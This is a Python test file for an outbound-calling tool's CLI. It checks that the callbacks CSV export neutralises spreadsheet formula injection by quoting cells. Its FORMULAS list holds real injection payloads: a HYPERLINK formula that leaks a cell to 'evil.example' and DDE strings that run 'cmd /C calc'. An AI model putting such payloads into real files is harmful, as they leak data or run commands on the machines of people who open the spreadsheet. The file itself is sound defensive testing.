"""CSV files, as an attacker would write into them: a formula in a customer's data never runs in the spreadsheet
a supervisor opens."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select
from typer.testing import CliRunner

from outbound.cli import app
from outbound.db.models import Agent, DncImport, Tenant
from outbound.db.session import transaction
from outbound.engagement.callback_outcomes import record_outcome
from outbound.engagement.callback_queue import claim_next
from outbound.reporting.spreadsheets import spreadsheet_cell
from outbound.tenancy.agents import create_agent

# What a customer may give as a name or an agent may paste into notes (ids and notes are stored stripped, so a
# leading tab or carriage return reaches only the unit test below).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)


def test_a_formula_in_a_customers_data_is_text_in_the_callbacks_export_spreadsheet(world, clock, tmp_path):
    tenant = world.tenant("maple")
    with transaction(world.runtime.factory) as session:
        # A fresh Do-Not-Call list, without which a US tenant may not call anyone.
        session.add(DncImport(tenant_id=tenant.id, source="registry", list_date=clock.now(), imported_at=clock.now()))
        create_agent(session, session.merge(tenant), "alice", name="Alice", password="correct horse", clock=clock)
    for n, formula in enumerate(FORMULAS):
        world.contact(tenant, formula, phone=f"+1212555010{n}", consents=[("sms", "marketing")])
        world.event(tenant, "lead_created", formula)
    with transaction(world.runtime.factory) as session:
        owner = session.scalar(select(Tenant).where(Tenant.slug == "maple"))
        alice = session.scalar(select(Agent).where(Agent.username == "alice"))
        for formula in FORMULAS:
            task = claim_next(session, owner, alice, clock.now())
            record_outcome(session, owner, alice, task.id, "reached", now=clock.now(), notes=formula)
    out = tmp_path / "callbacks.csv"
    result = CliRunner().invoke(
        app, ["callbacks", "export", "--out", str(out), "--db", world.runtime.settings.database_url]
    )
    assert result.exit_code == 0, result.output

    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert sorted(row["contact"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    assert sorted(row["notes"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
    # A phone number in E.164 starts with +: a spreadsheet reads it as a formula too, so it is text as well.
    assert {row["phone"][:3] for row in rows} == {"'+1"}
    # What cannot start a formula is written as it is.
    assert {row["tenant"] for row in rows} == {"maple"} and all(row["id"].isdigit() for row in rows)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_cell_a_spreadsheet_would_read_as_a_formula_starts_with_a_quote():
    for formula in (*FORMULAS, "\t=1+1", "\r=1+1"):
        assert spreadsheet_cell(formula) == "'" + formula
    assert spreadsheet_cell("booked a demo, 3pm") == "booked a demo, 3pm"
    assert spreadsheet_cell("") == "" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("it's = fine") == "it's = fine"
    # Numbers the engine counted are numbers, whatever their sign.
    assert spreadsheet_cell(-1) == "-1" and spreadsheet_cell(3) == "3"
